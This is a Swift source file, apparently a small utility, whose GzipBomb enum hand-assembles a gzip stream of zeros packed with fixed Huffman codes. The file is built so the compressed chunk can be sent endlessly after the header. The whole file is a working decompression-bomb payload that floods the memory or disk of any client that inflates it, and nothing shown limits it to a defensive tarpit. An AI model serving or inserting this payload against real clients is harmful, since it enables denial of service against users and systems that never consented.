/// Zeros, packed as small as fixed codes can: some 13 bits for each 258 of them.
enum GzipBomb {
    /// The head of a gzip stream, the head of its only block, and the first zero.
    static let head: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 0xFF] + packed([0, 1, 0] + zero + repeats(6))

    /// More zeros, to be sent after the head any number of times: 64 times 8 repeats of 258 of them.
    static let more: [UInt8] = {
        // The head ends within a byte, so the repeats go on from there.
        let phase = ([0, 1, 0] + zero + repeats(6)).count % 8
        let bits = Array(repeats(8 * 64 + 8).dropFirst(phase == 0 ? 0 : 8 - phase))
        return packed(Array(bits.prefix(8 * 64 * 13)))
    }()

    /// Of the code for the byte 0, the highest bit first.
    private static let zero = [0, 0, 1, 1, 0, 0, 0, 0]

    /// Each repeats the last byte 258 times.
    private static func repeats(_ count: Int) -> [Int] {
        (0..<count).flatMap { _ in [1, 1, 0, 0, 0, 1, 0, 1] + [0, 0, 0, 0, 0] }
    }

    private static func packed(_ bits: [Int]) -> [UInt8] {
        stride(from: 0, to: bits.count, by: 8).map { start in
            bits[start..<min(start + 8, bits.count)].enumerated().reduce(0) { $0 | UInt8($1.element) << $1.offset }
        }
    }
}
